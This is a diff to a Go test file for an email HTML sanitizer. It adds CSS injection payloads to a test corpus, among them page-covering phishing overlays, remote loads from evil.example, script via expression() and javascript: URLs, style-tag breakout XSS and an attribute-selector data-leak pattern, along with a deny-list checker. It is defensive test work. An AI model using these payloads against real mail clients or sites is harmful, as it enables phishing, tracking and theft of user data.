@@ -115,6 +115,45 @@ var attackCorpus = []string{
 	`<img src=x onerror\x0b=top.pwned=1>`,
 	"<img src=`x`onerror=top.pwned=1>",
 	`<a href="http://ok.example/" style="position:absolute;inset:0">overlay link</a>`,
+	// The mail's own <style> rules are kept (css.go): these must lose what is unsafe.
+	`<style>.o{position:fixed;top:0;left:0;width:100%;height:100%;background:#fff}</style><div class="o">Your session expired</div>`,
+	`<style>.o{position:absolute!important;inset:0}.p{position : FIXED}</style><div class="o">overlay</div>`,
+	`<style>.o{position:sticky;top:0}</style><div class="o">sticky</div>`,
+	`<style>@import url(http://evil.example/a.css);@import "http://evil.example/b.css";p{color:red}</style><p>x</p>`,
+	`<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)}p{font-family:x}</style><p>x</p>`,
+	`<style>p{background:image-set("http://evil.example/1x.png" 1x)}</style><p>x</p>`,
+	`<style>p{background-image:-webkit-image-set(url(http://evil.example/a.png) 1x)}</style><p>x</p>`,
+	`<style>p{-webkit-mask-image:url(http://evil.example/m.png);-webkit-box-reflect:below 0 url(http://evil.example/r.png)}</style><p>x</p>`,
+	`<style>p{width:expression(top.pwned=1);behavior:url(http://evil.example/x.htc);-moz-binding:url(http://evil.example/x.xml#x)}</style><p>x</p>`,
+	`<style>p{list-style:url(http://evil.example/l.png);cursor:url(http://evil.example/c.cur),auto;border-image:url(http://evil.example/b.png) 30}</style><p>x</p>`,
+	`<style>p{content:url(http://evil.example/c.png)}p::before{content:url(http://evil.example/d.png)}</style><p>x</p>`,
+	`<style>p{background:u\72l(http://evil.example/e.png)}p{background:\75 rl(http://evil.example/f.png)}</style><p>x</p>`,
+	`<style>p{background:url(javascript:top.pwned=1)}p{background:url(data:text/html,<script>top.pwned=1</script>)}</style><p>x</p>`,
+	`<style>p{font-family:"</style><img src=x onerror=top.pwned=1>"}</style><p>x</p>`,
+	`<style>@media screen{@import url(http://evil.example/m.css);p{background:url(http://evil.example/mq.png)}}</style><p>x</p>`,
+	`<style>@media (min-width:1px) and (url(http://evil.example/q.png)){p{color:red}}</style><p>x</p>`,
+	`<style>@keyframes k{from{background:url(http://evil.example/k.png)}}@supports (display:grid){p{background:url(http://evil.example/s.png)}}</style><p>x</p>`,
+	`<style>p{background:var(--x);--x:url(http://evil.example/v.png)}p{background:attr(data-x url)}</style><p>x</p>`,
+	`<style>p{background:url(/*x*/http://evil.example/c.png)}/*</style><img src=x onerror=top.pwned=1>*/</style><p>x</p>`,
+	`<style>input[value^="a"]{background:url(http://evil.example/a)}</style><p>x</p>`,
+	`<style><!-- p{color:red} --></style><p>x</p>`,
+}
+
+// checkCSS fails on a kept stylesheet that could load from anywhere (unless remote
+// images are allowed, and then only as images), run code or cover the page.
+func checkCSS(t *testing.T, payload, css string, allowRemote bool) {
+	t.Helper()
+	l := strings.ToLower(css)
+	for _, bad := range []string{"@import", "@font-face", "@keyframes", "@supports", "expression", "behavior", "binding",
+		"image-set", "-webkit-", "-moz-", "javascript", "var(", "attr(", "content:", "cursor:", "border-image", "list-style:url",
+		"position:fixed", "position:absolute", "position:sticky", "\\", "<", "/*", "data:text"} {
+		if strings.Contains(l, bad) {
+			t.Errorf("%s: kept CSS has %q: %s", payload, bad, css)
+		}
+	}
+	if !allowRemote && strings.Contains(l, "evil") {
+		t.Errorf("%s: kept CSS loads a remote resource: %s", payload, css)
+	}
 }
 
 // checkSafe parses doc as the browser does and fails on anything that can
@@ -154,7 +193,12 @@ func checkSafe(t *testing.T, payload, doc string, allowRemote bool) {
 				}
 				key, val := strings.ToLower(a.Key), strings.ToLower(strings.TrimSpace(a.Val))
 				if strings.HasPrefix(key, "on") || key == "srcset" || key == "formaction" || key == "background" ||
-					key == "poster" || key == "ping" || key == "id" || key == "name" || key == "class" || key == "srcdoc" {
+					key == "poster" || key == "ping" || key == "name" || key == "srcdoc" {
+					t.Errorf("%s: attribute %s=%q in output", payload, a.Key, a.Val)
+				}
+				// class and id stay for the mail's own rules to select on; nothing runs
+				// in the frame to be clobbered, and only plain names pass.
+				if (key == "id" || key == "class") && strings.ContainsAny(val, `"'<>&=:;()\/`) {
 					t.Errorf("%s: attribute %s=%q in output", payload, a.Key, a.Val)
 				}
 				if key == "target" && val != "_blank" {
@@ -187,6 +231,16 @@ func checkSafe(t *testing.T, payload, doc string, allowRemote bool) {
 		}
 	}
 	walk(root)
+	var sheet func(n *html.Node)
+	sheet = func(n *html.Node) {
+		if n.Type == html.TextNode && n.Parent != nil && n.Parent.Data == "style" {
+			checkCSS(t, payload, strings.TrimPrefix(n.Data, baseStyle), allowRemote)
+		}
+		for c := n.FirstChild; c != nil; c = c.NextSibling {
+			sheet(c)
+		}
+	}
+	sheet(root)
 	if styles != 1 {
 		t.Errorf("%s: %d <style> elements, want only ours", payload, styles)
 	}
@@ -267,8 +321,8 @@ func TestSanitizerKeepsLayout(t *testing.T) {
 			t.Errorf("output lacks %s\n%s", want, doc)
 		}
 	}
-	if strings.Contains(doc, ".x{color:red}") {
-		t.Error("the mail's own <style> survived")
+	if !strings.Contains(doc, ".x{color:red;}") {
+		t.Error("the mail's own <style> rule was lost")
 	}
 }
 
